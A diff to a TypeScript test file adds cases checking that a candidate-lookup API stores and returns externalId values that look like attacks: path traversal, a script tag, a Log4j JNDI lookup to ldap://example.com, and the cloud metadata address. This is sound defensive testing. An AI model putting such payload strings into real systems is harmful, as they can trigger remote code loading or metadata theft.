@@ -33,6 +33,22 @@ describe("finding a candidate by externalId", () => {
     expect((await caller.findCandidate(`${externalId} `)).status).toBe(404);
   });
 
+  test.each([
+    ["a path that climbs", (unique: string) => `${unique}/../b`],
+    ["a system file", (unique: string) => `${unique}.bak`],
+    ["a script", (unique: string) => `<script>${unique}`],
+    ["a log4j lookup", (unique: string) => `\${jndi:ldap://example.com/${unique}}`],
+    ["an address of a cloud's metadata", (unique: string) => `http://169.254.169.254/${unique}`],
+  ])("finds what was created, also where it looks like %s", async (_what, externalIdOf) => {
+    const externalId = externalIdOf(anExternalId());
+    const stagedId = await received(caller, aSubmission({ externalId }));
+
+    const found = await caller.findCandidate(externalId);
+
+    expect(found.status).toBe(200);
+    expect(found.body["id"]).toBe(stagedId);
+  });
+
   test("ignores other query parameters", async () => {
     const { externalId } = aSubmission();
     await received(caller, aSubmission({ externalId }));
